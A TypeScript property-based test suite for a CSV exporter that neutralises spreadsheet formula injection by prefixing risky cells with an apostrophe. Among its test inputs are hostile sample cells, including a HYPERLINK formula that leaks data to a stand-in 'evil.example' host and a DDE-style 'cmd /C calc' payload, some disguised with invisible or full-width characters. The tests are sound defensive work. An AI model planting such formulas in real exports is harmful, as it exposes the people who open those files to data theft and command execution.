import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvLines, neutraliseFormula } from './csv.ts';

const formulaStart = /^[=+\-@\t\r\n]|^[\s\p{Cf}]*[=+\-@]/u;
const plainNumber = /^[+-]?(\d+([.,]\d+)?|[.,]\d+)([eE][+-]?\d+)?$/;
const parse = (text: string, delimiter = ',') =>
  Papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n', delimiter }).data;

/** Texts that start like formulas, with line breaks and delimiters inside. */
const hostileText = fc
  .tuple(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '',
      'a',
      '1',
      ' ',
      ' =',
      '\t+',
      '＝',
      '＠',
      '\u3000-',
    ),
    fc.string({ unit: fc.constantFrom('=', '"', ',', ';', '\r', '\n', 'x', '1', '(', ')', ' ', 'ü') }),
  )
  .map(([start, rest]) => start + rest);

describe('csvLines', () => {
  it('neutralises the formula the results CSV let through: a cell with a line break', () => {
    const cell = '=HYPERLINK("http://evil.example/?leak","click")\n';
    expect(parse(csvLines([[cell]]))[0]?.[0]).toBe(`'${cell}`);
  });

  it('neutralises a formula behind spaces, tabs or invisible characters, and full-width or small signs', () => {
    const hidden = [
      ' =1+1',
      '   +cmd|" /C calc"!A0',
      '\t -2+3',
      ' @SUM(A1)',
      '\u00a0=1',
      '\u3000=1',
      '\u200b=1',
      '＝HYPERLINK("http://evil.example")',
      '＋1+1',
      '－1+1',
      '＠SUM(A1)',
      ' ＝1',
      '﹦1',
    ];
    for (const cell of hidden) {
      expect(neutraliseFormula(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      expect(parse(csvLines([[cell]]))[0]?.[0]).toBe(`'${cell}`);
    }
    for (const plain of [' 12', 'a = b', 'Müller', ' text', '1-2'])
      expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('keeps plain numbers, negative ones included, as they are', () => {
    expect(parse(csvLines([['-12.5', '+3', '-1,5', 1e-3, -4]]))[0]).toEqual([
      '-12.5',
      '+3',
      '-1,5',
      '0.001',
      '-4',
    ]);
  });

  it('never writes a text cell a spreadsheet would run, and loses nothing else (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(hostileText, fc.string()), { minLength: 1, maxLength: 4 }), {
          minLength: 1,
          maxLength: 5,
        }),
        fc.constantFrom(',', ';'),
        (rows, delimiter) => {
          // Papaparse reads a lone empty cell as an empty line: give every row a marker first cell.
          const marked = rows.map((row) => ['row', ...row]);
          const parsed = parse(csvLines(marked, { delimiter }), delimiter);
          expect(parsed).toHaveLength(marked.length);
          parsed.forEach((cells, rowIndex) => {
            cells.forEach((cell, column) => {
              const original = marked[rowIndex]![column]!;
              expect(cell).toBe(neutraliseFormula(original));
              expect(formulaStart.test(cell.normalize('NFKC')) && !plainNumber.test(cell)).toBe(false);
              expect(cell === original || cell === `'${original}`).toBe(true);
            });
          });
        },
      ),
      { numRuns: 300 },
    );
  });
});
